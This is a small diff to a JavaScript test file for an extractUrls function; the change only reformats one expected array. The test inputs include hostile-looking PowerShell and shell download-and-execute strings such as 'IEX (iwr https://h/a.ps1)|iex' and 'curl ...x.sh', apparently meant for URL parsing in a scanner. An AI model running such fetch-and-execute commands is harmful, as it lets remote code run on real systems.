@@ -13,7 +13,10 @@ describe('extractUrls', () => {
     expect(extractUrls('Download https://h/v1.2/tool.ps1. Then run: https://h/y.sh: done')).toEqual(['https://h/v1.2/tool.ps1', 'https://h/y.sh']);
   });
   it('keeps queries, ports and a bracketed IPv6 host whole', () => {
-    expect(extractUrls("iwr 'https://h:8443/x.ps1?raw=true&a=1'; curl http://[::1]:8080/p/x.sh")).toEqual(['https://h:8443/x.ps1?raw=true&a=1', 'http://[::1]:8080/p/x.sh']);
+    expect(extractUrls("iwr 'https://h:8443/x.ps1?raw=true&a=1'; curl http://[::1]:8080/p/x.sh")).toEqual([
+      'https://h:8443/x.ps1?raw=true&a=1',
+      'http://[::1]:8080/p/x.sh',
+    ]);
   });
   it('ends at quotes, backticks, parentheses, pipes, semicolons and commas', () => {
     expect(extractUrls("IEX (iwr https://h/a.ps1)|iex; `https://h/b`,'https://h/c'")).toEqual(['https://h/a.ps1', 'https://h/b', 'https://h/c']);
